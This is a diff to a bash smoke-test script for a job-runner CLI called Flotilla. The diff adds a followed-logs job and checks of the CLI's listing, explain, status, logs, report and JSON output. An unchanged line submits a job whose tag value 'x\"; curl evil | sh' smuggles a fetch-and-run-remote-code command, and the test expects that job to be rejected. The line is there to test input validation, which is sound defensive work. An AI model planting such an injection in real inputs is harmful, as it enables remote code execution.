@@ -90,7 +90,12 @@ submit "$(spec smoke-ok 'echo "shard $FLOTILLA_SHARD_INDEX done"')" >/dev/null
 submit "$(spec smoke-fail 'echo failing on purpose; exit 3' always)" >/dev/null
 submit "$(spec smoke-cancel 'sleep 240')" >/dev/null
 malformed_id=$(submit '{"fleet": {"count": 2}, "instance_types": ["t3.micro"')
+submit "$(spec smoke-follow 'for i in 1 2 3; do echo "shard $FLOTILLA_SHARD_INDEX line $i"; sleep 2; done')" >/dev/null
 submit '{"id": "smoke-hostile", "fleet": {"count": 1}, "instance_types": ["t3.micro"], "image": "ami-0abcdef1234567890", "tags": {"team": "x\"; curl evil | sh"}, "run": {"commands": [["echo", "hi"]]}, "deadline_minutes": 5}' >/dev/null
+
+# Followed from its submission, in the background, while the others run.
+flotilla logs smoke-follow --follow --timeout 240 >.flotilla/logs/follow.out 2>&1 &
+follower=$!
 
 # Cancel once the long job is really running its command.
 deadline=$(( $(date +%s) + 120 ))
@@ -115,9 +120,37 @@ expect smoke-cancel CANCELLED 180
 expect "job-$malformed_id" REJECTED 60
 expect smoke-hostile REJECTED 60
 
+expect smoke-follow SUCCEEDED 180
+
+echo "== the CLI: ls, explain, logs, report and --output json"
+check() { # description, command...: ok when the command succeeds
+  local what=$1; shift
+  if "$@"; then echo "ok   $what"; else echo "FAIL $what"; failures=$((failures + 1)); fi
+}
+listed=$(flotilla ls --limit 50); echo "$listed"
+check "ls lists the jobs with their states" grep -qE "^ *smoke-fail +- +FAILED" <<<"$listed"
+check "ls --output json: the failed ones, by schema" $PY -c '
+import json, sys
+doc = json.loads(sys.argv[1])
+assert doc["schema"] == "flotilla.jobs/1", doc["schema"]
+ids = [j["jobId"] for j in doc["jobs"]]
+assert "smoke-fail" in ids and all(j["status"] == "FAILED" for j in doc["jobs"]), ids' "$(flotilla --output json ls --state failed)"
+explained=$(flotilla explain smoke-fail); echo "$explained"
+check "explain says which step failed and how" grep -q "a step failed with exit code 3" <<<"$explained"
+check "explain --output json" $PY -c 'import json, sys; d = json.loads(sys.argv[1]); assert d["schema"] == "flotilla.explain/1" and d["findings"]' "$(flotilla --output json explain smoke-fail)"
+check "status --output json" $PY -c 'import json, sys; d = json.loads(sys.argv[1]); assert d["job"]["status"] == "SUCCEEDED" and len(d["shards"]) == 2' "$(flotilla --output json status smoke-ok)"
+logs=$(flotilla logs smoke-ok --phase run)
+check "logs: each shard's whole run output" grep -qx "shard 1 done" <<<"$logs"
+wait "$follower" || true
+cat .flotilla/logs/follow.out
+check "logs --follow printed each shard's lines as its step ended" [ "$(grep -c "line 3" .flotilla/logs/follow.out)" = 2 ]
+report=$(flotilla report smoke-fail)
+check "report writes the page" grep -q 'data-shard="1"' "$report"
+check "the notify function wrote the page beside report.txt" aws_local s3 cp "s3://$FLOTILLA_BUCKET/jobs/smoke-fail/report.html" .flotilla/reports/from-bucket.html --quiet
+
 echo "== what a subscriber to Flotilla's events heard (EventBridge rule, source flotilla)"
 if ! $PY tools/events_check.py smoke-fast=SUCCEEDED smoke-ok=SUCCEEDED smoke-fail=FAILED smoke-cancel=CANCELLED \
-    smoke-hostile=REJECTED; then
+    smoke-hostile=REJECTED smoke-follow=SUCCEEDED; then
   echo "FAIL the job events were incomplete"
   failures=$((failures + 1))
 fi
@@ -138,7 +171,7 @@ snapshots() { # job id -> how many snapshots carry its tag
   aws_local ec2 describe-snapshots --owner-ids self --filters "Name=tag:flotilla:job-id,Values=$1" \
     --query 'length(Snapshots)' --output text
 }
-for want in "smoke-ok 2" "smoke-fail 2" "smoke-cancel 0" "smoke-hostile 0"; do
+for want in "smoke-ok 2" "smoke-fail 2" "smoke-follow 2" "smoke-cancel 0" "smoke-hostile 0"; do
   set -- $want
   got=$(snapshots "$1")
   if [ "$got" = "$2" ]; then echo "ok   $1: $got snapshot(s)"; else echo "FAIL $1: $got snapshot(s), wanted $2"; failures=$((failures + 1)); fi
